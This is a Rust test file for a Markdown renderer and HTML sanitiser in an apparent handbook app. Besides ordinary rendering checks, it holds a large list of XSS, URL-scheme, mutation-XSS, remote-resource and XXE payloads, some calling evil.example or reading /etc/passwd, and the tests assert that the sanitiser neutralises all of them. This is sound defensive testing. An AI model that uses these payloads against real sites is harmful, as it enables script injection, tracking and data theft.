//! What hostile and friendly documents become.

use std::collections::HashSet;

use super::*;

pub(super) struct Shelf(pub Mode);

impl RenderContext for Shelf {
    fn document(&self, path: &DocPath) -> Option<TargetDocument> {
        let known = ["refunds/limits.md", "phone/hold.md", "refunds/form.pdf"];
        known.contains(&path.as_str()).then(|| TargetDocument {
            path: path.clone(),
            title: "Known".into(),
        })
    }

    fn named(&self, name: &str) -> Option<TargetDocument> {
        (name == "Hold rule").then(|| TargetDocument {
            path: DocPath::new("phone/hold.md").unwrap(),
            title: "Hold rule".into(),
        })
    }

    fn image(&self, path: &DocPath) -> ImageTarget {
        if path.as_str() == "refunds/desk.png" {
            ImageTarget::Url("carebook-asset://localhost/0a/desk.png".into())
        } else {
            ImageTarget::Missing
        }
    }

    fn mode(&self) -> Mode {
        self.0
    }
}

pub(super) fn parse(source: &str) -> Document {
    Document::parse(
        DocPath::new("refunds/opened.md").unwrap(),
        source.as_bytes(),
    )
}

fn window(source: &str) -> String {
    render(&parse(source), &Shelf(Mode::Window))
        .html
        .trim()
        .replace(" rel=\"noopener noreferrer\"", "")
}

fn portable(source: &str) -> String {
    render(&parse(source), &Shelf(Mode::Portable))
        .html
        .trim()
        .replace(" rel=\"noopener noreferrer\"", "")
}

#[test]
fn markdown_becomes_the_html_that_is_expected() {
    for (source, html) in [
        (
            "a *b* **c** ~~d~~ `e<f>`",
            "<p>a <em>b</em> <strong>c</strong> <del>d</del> <code>e&lt;f&gt;</code></p>",
        ),
        (
            "# After 14 days {#late}\n\nx",
            "<h1 id=\"s-late\">After 14 days</h1>\n<p>x</p>",
        ),
        ("## 환불 규정", "<h2 id=\"s-환불-규정\">환불 규정</h2>"),
        (
            "- [x] done\n- [ ] open",
            "<ul>\n<li class=\"task\"><input type=\"checkbox\" disabled=\"\" checked=\"\"> done</li>\n<li class=\"task\"><input type=\"checkbox\" disabled=\"\"> open</li>\n</ul>",
        ),
        (
            "3. c\n4. d",
            "<ol start=\"3\">\n<li>c</li>\n<li>d</li>\n</ol>",
        ),
        (
            "|a|b|\n|:-:|-:|\n|1|2|",
            "<table>\n<thead><tr><th class=\"align-center\">a</th><th class=\"align-right\">b</th></tr></thead>\n<tbody>\n<tr><td class=\"align-center\">1</td><td class=\"align-right\">2</td></tr>\n</tbody></table>",
        ),
        (
            "```rust,ignore\nlet x = \"<\";\n```",
            "<pre><code data-language=\"rust\">let x = \"&lt;\";\n</code></pre>",
        ),
        ("> quote", "<blockquote>\n<p>quote</p>\n</blockquote>"),
        (
            "> [!say]\n> We are sorry.",
            "<div class=\"alert alert-say\"><p class=\"alert-title\">Say this</p>\n<p>We are sorry.</p>\n</div>",
        ),
        (
            "> [!DONT]  \n> Nothing can be done.",
            "<div class=\"alert alert-dont\"><p class=\"alert-title\">Do not say</p>\n<p>Nothing can be done.</p>\n</div>",
        ),
        (
            "> [!BOO]\n> x",
            "<blockquote>\n<p>[!BOO]\nx</p>\n</blockquote>",
        ),
        (
            "[l](limits.md#after)",
            "<p><a data-doc=\"refunds/limits.md\" data-anchor=\"after\" href=\"#\">l</a></p>",
        ),
        (
            "[l](#here)",
            "<p><a data-doc=\"refunds/opened.md\" data-anchor=\"here\" href=\"#\">l</a></p>",
        ),
        (
            "[l](gone.md)",
            "<p><a data-missing=\"gone.md\" href=\"#\">l</a></p>",
        ),
        (
            "[l](form.pdf)",
            "<p><a class=\"file-link\" data-doc=\"refunds/form.pdf\" href=\"#\">l</a></p>",
        ),
        (
            "[[Hold rule#After 60|hold]]",
            "<p><a data-doc=\"phone/hold.md\" data-anchor=\"after-60\" href=\"#\">hold</a></p>",
        ),
        (
            "[[Nowhere]]",
            "<p><a data-missing=\"Nowhere\" href=\"#\">Nowhere</a></p>",
        ),
        (
            "[l](https://a.example/?a=1&b=2 \"T\")",
            "<p><a data-external=\"https://a.example/?a=1&amp;b=2\" href=\"#\" title=\"T\">l</a></p>",
        ),
        (
            "see https://a.example/x_y. and <b@c.example>",
            "<p>see <a data-external=\"https://a.example/x_y\" href=\"#\">https://a.example/x_y</a>. and <a data-external=\"mailto:b@c.example\" href=\"#\">b@c.example</a></p>",
        ),
        (
            "[l](../../x.md)",
            "<p><span class=\"refused-link\" title=\"the path leads out of the handbook\">l</span></p>",
        ),
        (
            "![A *desk*](desk.png \"T\")",
            "<p><img src=\"carebook-asset://localhost/0a/desk.png\" alt=\"A desk\" title=\"T\" loading=\"lazy\"></p>",
        ),
        (
            "![A desk](gone.png)",
            "<p><span class=\"missing-image\" title=\"refunds/gone.png\">A desk</span></p>",
        ),
        (
            "![A desk](https://a.example/x.png)",
            "<p><span class=\"remote-image\" data-remote-src=\"https://a.example/x.png\">A desk</span></p>",
        ),
        (
            "a<br>b <kbd>F2</kbd> <sup>2</sup>",
            "<p>a<br>b <kbd>F2</kbd> <sup>2</sup></p>",
        ),
        (
            "<details open><summary>More</summary>\n\n*x*\n\n</details>",
            "<details open=\"\"><summary>More</summary>\n<p><em>x</em></p>\n</details>",
        ),
        (
            "<p align=\"center\"><img src=\"desk.png\" width=\"10\" onload=x></p>",
            "<p class=\"align-center\"><img src=\"carebook-asset://localhost/0a/desk.png\" alt=\"\" width=\"10\" loading=\"lazy\"></p>",
        ),
        (
            "<a name=\"old\"></a>x",
            "<p><span id=\"s-old\"></span>x</p>",
        ),
        ("a &amp; b &copy; &lt;i&gt;", "<p>a &amp; b © &lt;i&gt;</p>"),
        (
            "<table><tr><td>a<td>b<tr><td>c</table>",
            "<table><tbody><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></tbody></table>",
        ),
    ] {
        assert_eq!(window(source), html, "{source}");
    }
}

#[test]
fn portable_html_has_plain_links() {
    for (source, html) in [
        (
            "[l](limits.md#after)",
            "<p><a href=\"limits.md#after\">l</a></p>",
        ),
        (
            "[l](/phone/hold.md)",
            "<p><a href=\"../phone/hold.md\">l</a></p>",
        ),
        ("[l](#here)", "<p><a href=\"#s-here\">l</a></p>"),
        (
            "[l](https://a.example)",
            "<p><a href=\"https://a.example\">l</a></p>",
        ),
        ("[l](gone.md)", "<p><a data-missing=\"gone.md\">l</a></p>"),
        (
            "[l](javascript:x)",
            "<p><span class=\"refused-link\" title=\"only http, https and mailto addresses are opened\">l</span></p>",
        ),
    ] {
        assert_eq!(portable(source), html, "{source}");
    }
}

#[test]
fn footnotes_are_numbered_in_the_order_they_are_met() {
    let html =
        window("b[^two] a[^one] again[^two]\n\n[^one]: First.\n[^two]: Second.\n[^three]: Never.");
    assert!(html.starts_with("<p>b<sup class=\"footnote-reference\" id=\"s-fnref:1\"><a data-doc=\"refunds/opened.md\" data-anchor=\"fn:1\" href=\"#\">1</a></sup> a<sup"), "{html}");
    let (_, notes) = html.split_once("<div class=\"footnotes\">").unwrap();
    let (second, first) = (
        notes.find("Second.").unwrap(),
        notes.find("First.").unwrap(),
    );
    assert!(second < first && !notes.contains("Never."), "{notes}");
}

#[test]
fn a_section_renders_alone_with_what_it_refers_to() {
    let document = parse(
        "intro [r]\n\n# A\n\nfirst [r] note[^n]\n\n- item\n\n## B\n\nsecond\n\n[r]: https://a.example\n[^n]: The note.\n",
    );
    let section = document.section("a").unwrap();
    let html = render_section(&document, section, &Shelf(Mode::Window)).html;
    assert!(
        html.starts_with("<h1 id=\"s-a\">A</h1>\n<p>first <a data-external=\"https://a.example\""),
        "{html}"
    );
    assert!(
        html.contains("<li>item</li>")
            && html.contains("The note.")
            && !html.contains("second")
            && !html.contains("intro"),
        "{html}"
    );
    let b = render_section(
        &document,
        document.section("b").unwrap(),
        &Shelf(Mode::Window),
    )
    .html;
    assert_eq!(b.trim(), "<h2 id=\"s-b\">B</h2>\n<p>second</p>");
}

#[test]
fn blocks_in_another_language_say_so() {
    let html = window(
        "---\nlang: en\n---\nThe customer hears this.\n\n고객님, 기다려 주셔서 감사합니다.\n\n> [!SAY]\n> Xin lỗi anh chị vì đã để chờ máy.",
    );
    assert!(
        html.contains("<p>The customer")
            && html.contains("<p lang=\"ko\">고객님")
            && html.contains("<p lang=\"vi\">"),
        "{html}"
    );
    let html = window("---\nlang: ko\n---\n> [!MUST]\n> 사과합니다.");
    assert!(html.contains("<p class=\"alert-title\">필수</p>"), "{html}");
}

#[test]
fn headings_inside_other_blocks_have_no_anchor() {
    let html = window("# A\n\n> # A\n\n- # A\n\n# A");
    assert_eq!(html.matches("id=\"s-a\"").count(), 1);
    assert_eq!(html.matches("id=\"s-a-1\"").count(), 1);
    assert_eq!(html.matches("<h1>").count(), 2);
}

#[test]
fn raw_ids_are_prefixed_checked_and_never_taken_from_a_section() {
    assert_eq!(
        window("# A\n\n<p id=\"a\">x</p>\n<p id=\"app\">y</p>\n<p id='a b'>z</p>"),
        "<h1 id=\"s-a\">A</h1>\n<p>x</p>\n<p id=\"s-app\">y</p>\n<p>z</p>"
    );
}

// ---------------------------------------------------------------- hostile documents

/// Each would run, fetch, lead away or cover something if one layer let it through.
pub(super) const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "x <script>alert(1)</script> y",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "</p><script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "|<script>alert(1)</script>|\n|-|\n|<script>alert(1)</script>|",
    "- <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "```<script>alert(1)</script>\nx\n```",
    "```\"onmouseover=alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "# a {onclick=alert(1)}",
    "# a {#x onclick=alert(1)}",
    "# a {#x\"onclick=alert(1)}",
    "# a {.x style=position:fixed}",
    "# a {#\"><script>alert(1)</script>}",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img\nsrc=x\nonerror\n=\nalert(1)>",
    "<img src=x:x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.png>",
    "<img src=//evil.example/pixel.png>",
    "<img src=\\\\evil.example\\pixel.png>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img srcset=\"https://evil.example/x.png 1x\">",
    "<img src=javascript:alert(1)>",
    "<img lowsrc=javascript:alert(1)>",
    "<img dynsrc=javascript:alert(1)>",
    "<img src=desk.png longdesc=https://evil.example usemap=#m>",
    "![x](https://evil.example/x.png)",
    "![x](//evil.example/x.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,AAAA)",
    "![x\" onerror=\"alert(1)](desk.png)",
    "![x](desk.png \"\\\" onerror=\\\"alert(1)\")",
    "![x][r]\n\n[r]: https://evil.example/x.png",
    "![[https://evil.example/x.png]]",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&#115;cript:alert(1))",
    "[x](java&#x73;cript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](java\u{200b}script:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](blob:https://a.example/x)",
    "[x](file:///etc/passwd)",
    "[x](carebook-asset://localhost/x)",
    "[x](tauri://localhost)",
    "[x](ipc://localhost/rpc)",
    "[x](about:blank)",
    "[x](view-source:javascript:x)",
    "[x](feed:javascript:alert(1))",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/\\evil.example)",
    "[x](https:evil.example)",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](https://a.example 'x\" onclick=\"alert(1)')",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[r]\n\n[r]: <javascript:alert(1)> \"t\"",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<x@y.example\"onclick=alert(1)>",
    "javascript://a.example/%0aalert(1)",
    "www.evil.example\"onmouseover=alert(1)",
    "http://evil.example/\"><script>alert(1)</script>",
    "[[javascript:alert(1)]]",
    "[[x|<img src=x onerror=alert(1)>]]",
    "[[\"><script>alert(1)</script>]]",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"java&NewLine;script:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href='https://a.example' onclick='alert(1)' target=_top ping=https://evil.example download>x</a>",
    "<a href=# data-external=javascript:alert(1)>x</a>",
    "<a data-doc=../../etc/passwd data-anchor='\"><script>'>x</a>",
    "<a href=//evil.example>x</a>",
    "<a xlink:href=javascript:alert(1)>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><foreignObject><iframe srcdoc=x></foreignObject></svg>",
    "<svg><use href=https://evil.example/x.svg#y></svg>",
    "<svg></p><style><a title=\"</style><img src onerror=alert(1)>\">",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<p style=\"background:url(https://evil.example)\">x</p>",
    "<div style=position:fixed;inset:0>cover</div>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<base href=https://evil.example>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x>",
    "<applet code=x></applet>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<form action=https://evil.example><input name=x><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input type=image src=https://evil.example/x.png>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<video src=https://evil.example/x.mp4 onerror=alert(1)></video>",
    "<video poster=https://evil.example/x.png></video>",
    "<audio src=https://evil.example/x.mp3 autoplay></audio>",
    "<source srcset=https://evil.example/x>",
    "<picture><source srcset=https://evil.example/x><img src=x></picture>",
    "<track src=https://evil.example/x>",
    "<body onload=alert(1) background=https://evil.example/x.png>",
    "<html onclick=alert(1)>",
    "<table background=https://evil.example/x.png><tr><td background=javascript:alert(1)>x</table>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\">",
    "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
    "<p id=app>x</p><p id=s-x name=location class='alert rail' onclick=alert(1)>y</p>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<p lang='\"><script>alert(1)</script>'>x</p>",
    "<b/onclick=alert(1)>x</b>",
    "<b onclick=alert(1) <b>x</b>",
    "<dialog open>cover</dialog>",
    "<p popover id=x popovertarget=x contenteditable autofocus tabindex=1 accesskey=x slot=x is=x>x</p>",
    "<p class=\"prose alert-head rail\">x</p>",
    "---\ntitle: <script>alert(1)</script>\n---\n<script>alert(1)</script>",
    "\u{feff}<script>alert(1)</script>",
    "<scrıpt>alert(1)</scrıpt>",
    "<ſcript>alert(1)</ſcript>",
    "<img src=x\u{a0}onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "\0<script>alert(1)</script>",
    "> [!SAY]<script>alert(1)</script>\n> x",
    "> [!SAY onclick=alert(1)]\n> x",
];

/// Reads HTML as strictly as a writer must have written it, and says what is wrong.
fn danger(html: &str, mode: Mode) -> Option<String> {
    let tags: HashSet<&str> =
        "a abbr b blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p pre q rp rt ruby s samp small span strong sub summary sup table tbody td tfoot th thead time tr u ul var wbr bdi"
            .split(' ')
            .collect();
    let mut rest = html;
    while let Some((_, after)) = rest.split_once('<') {
        let Some((tag, after)) = after.split_once('>') else {
            return Some(format!("an open tag: {after}"));
        };
        rest = after;
        if let Some(name) = tag.strip_prefix('/') {
            if !tags.contains(name) {
                return Some(format!("</{name}>"));
            }
            continue;
        }
        let (name, mut attributes) = tag.split_once(' ').unwrap_or((tag, ""));
        if !tags.contains(name) {
            return Some(format!("<{name}>"));
        }
        while !attributes.is_empty() {
            let (key, value) = match attributes.split_once("=\"") {
                Some((key, quoted)) if !key.contains(' ') => {
                    let (value, after) = quoted.split_once('"')?;
                    attributes = after.trim_start();
                    (key, value)
                }
                _ => {
                    let (key, after) = attributes.split_once(' ').unwrap_or((attributes, ""));
                    attributes = after;
                    (key, "")
                }
            };
            if let Some(wrong) = attribute_danger(name, key, value, mode) {
                return Some(wrong);
            }
        }
    }
    None
}

fn attribute_danger(tag: &str, key: &str, value: &str, mode: Mode) -> Option<String> {
    let web = |value: &str| {
        value.to_lowercase().starts_with("https://") || value.to_lowercase().starts_with("http://")
    };
    let outside = |value: &str| web(value) || value.starts_with("mailto:");
    let good = match key {
        "href" if mode == Mode::Window => value == "#",
        "href" => {
            outside(value)
                || (!value.split('#').next().unwrap_or_default().contains(':')
                    && !value.starts_with("//")
                    && !value.contains('\\'))
        }
        "src" => value == "carebook-asset://localhost/0a/desk.png",
        "data-external" => outside(value),
        "data-remote-src" => web(value),
        "data-doc" => DocPath::new(value).is_ok(),
        "id" => value.starts_with("s-") && !value.contains(char::is_whitespace),
        "class" => {
            value.is_empty()
                || value.split(' ').all(|class| {
                    [
                        "alert",
                        "footnote",
                        "align-",
                        "task",
                        "missing-image",
                        "remote-image",
                        "refused-link",
                        "file-link",
                    ]
                    .iter()
                    .any(|known| class.starts_with(known))
                        && class != "alert-head"
                })
        }
        "type" => value == "checkbox",
        "alt" | "title" | "lang" | "dir" | "start" | "rel" | "loading" | "data-anchor"
        | "data-missing" | "data-language" | "checked" | "disabled" | "open" | "width"
        | "height" | "colspan" | "rowspan" => true,
        _ => false,
    };
    (!good).then(|| format!("<{tag} {key}={value:?}>"))
}

#[test]
fn hostile_documents_are_harmless_after_both_layers() {
    assert!(HOSTILE.len() >= 120, "{}", HOSTILE.len());
    for mode in [Mode::Window, Mode::Portable] {
        for source in HOSTILE {
            let html = render(&parse(source), &Shelf(mode)).html;
            assert_eq!(danger(&html, mode), None, "{source:?} became {html}");
        }
    }
}

#[test]
fn the_first_layer_holds_alone() {
    for mode in [Mode::Window, Mode::Portable] {
        for source in HOSTILE {
            let document = parse(source);
            let range = document.body_start..document.source.len();
            let html = write::draw(&document, range, &Shelf(mode), write::Note::Nothing)
                .unwrap()
                .html;
            assert_eq!(danger(&html, mode), None, "{source:?} became {html}");
        }
    }
}

#[test]
fn the_second_layer_holds_alone() {
    let path = DocPath::new("refunds/opened.md").unwrap();
    for mode in [Mode::Window, Mode::Portable] {
        for source in HOSTILE {
            let mut naive = String::new();
            pulldown_cmark::html::push_html(
                &mut naive,
                pulldown_cmark::Parser::new_ext(source, pulldown_cmark::Options::all()),
            );
            for html in [naive.as_str(), source] {
                let given = sanitise::Given {
                    images: HashSet::new(),
                    threads: HashSet::new(),
                    anchors: true,
                };
                let clean = Sanitiser::new(&given, &path, mode).clean(html);
                assert_eq!(danger(&clean, mode), None, "{source:?} became {clean}");
            }
        }
    }
}

#[test]
fn the_checker_itself_sees_danger() {
    for html in [
        "<script>",
        "<p onclick=\"x\">",
        "<a href=\"javascript:x\">",
        "<img src=\"https://evil.example\">",
        "<p style=\"x\">",
        "<p",
        "<a data-external=\"data:x\">",
    ] {
        assert!(
            danger(html, Mode::Window).is_some() && danger(html, Mode::Portable).is_some(),
            "{html}"
        );
    }
}

#[test]
fn what_is_too_much_is_shown_as_its_source() {
    for (source, reason) in [
        ("> ".repeat(200) + "x", SourceReason::TooDeep),
        (
            (0..200)
                .map(|depth| format!("{}- a\n", "  ".repeat(depth)))
                .collect(),
            SourceReason::TooDeep,
        ),
        (
            "**a *b ".repeat(200) + &"x* x**".repeat(200),
            SourceReason::TooDeep,
        ),
        ("x\n".repeat(1024 * 1024 + 1), SourceReason::TooLarge),
        ("*a* ".repeat(200_000), SourceReason::TooMuch),
    ] {
        let rendered = render(&parse(&source), &Shelf(Mode::Window));
        assert_eq!(rendered.source_instead, Some(reason));
        assert!(
            rendered.html.starts_with("<pre class=\"source\">")
                && rendered.html.len() <= MAX_BYTES * 5 + 64
        );
        assert_eq!(
            danger(
                &rendered.html.replacen(" class=\"source\"", "", 1),
                Mode::Window
            ),
            None
        );
    }
}

#[test]
fn hostile_repetition_ends_in_html_or_in_the_source() {
    let size = 60_000;
    for unit in [
        "[",
        "]",
        "*",
        "_",
        "~",
        ">",
        "> ",
        "- ",
        "1) ",
        "`",
        "[[",
        "![",
        "[^a]",
        "[a](",
        "[a](<",
        "<",
        "<a ",
        "<b>",
        "<p>\n\n",
        "<div>\n\n",
        "<b><i>",
        "<details>\n\n",
        "<table><tr><td>",
        "<!--",
        "<?",
        "&",
        "&#",
        "\\",
        "#\n",
        "# a\n",
        "---\n",
        "a\n=\n",
        "|a|\n|-|\n",
        "|",
        "http://",
        "www.a.",
        "a@",
        "> [!say]\n\n",
        "# a {#b}\n",
        "*a **b ",
        "<font title=x>",
        "<a name=x></a>",
        "\0",
        "\t",
        "\r",
        "~~~\n",
        "[a]: b\n",
        "[^a]: b\n\n",
        "<svg>",
        "<script>",
        "*_~",
    ] {
        let document = parse(&unit.repeat(size / unit.len()));
        let rendered = render(&document, &Shelf(Mode::Window));
        assert!(rendered.html.len() <= MAX_HTML * 2, "{unit:?}");
        assert!(
            document
                .sections
                .iter()
                .map(|section| section.text.len())
                .sum::<usize>()
                <= size * 4,
            "{unit:?}"
        );
    }
}

struct WithLines;

impl RenderContext for WithLines {
    fn document(&self, _path: &DocPath) -> Option<TargetDocument> {
        None
    }

    fn image(&self, _path: &DocPath) -> ImageTarget {
        ImageTarget::Missing
    }

    fn lines(&self) -> bool {
        true
    }
}

#[test]
fn blocks_say_their_line_only_in_a_preview() {
    let source = "---\ntitle: A\n---\n# One\n\nText\n\n- a\n- b\n\n> [!SAY]\n> words\n\n<p data-line=\"9\">raw</p>\n";
    let document = Document::parse(DocPath::new("a.md").unwrap(), source.as_bytes());
    let html = render(&document, &WithLines).html;
    for expected in [
        "<h1 data-line=\"4\"",
        "<p data-line=\"6\">Text",
        "<ul data-line=\"8\">",
        "<li data-line=\"9\">b",
        "data-line=\"11\"",
        "<p>raw</p>",
    ] {
        assert!(html.contains(expected), "{expected} in {html}");
    }
    let plain = render(&document, &Shelf(Mode::Window)).html;
    assert!(!plain.contains("data-line"), "{plain}");
}
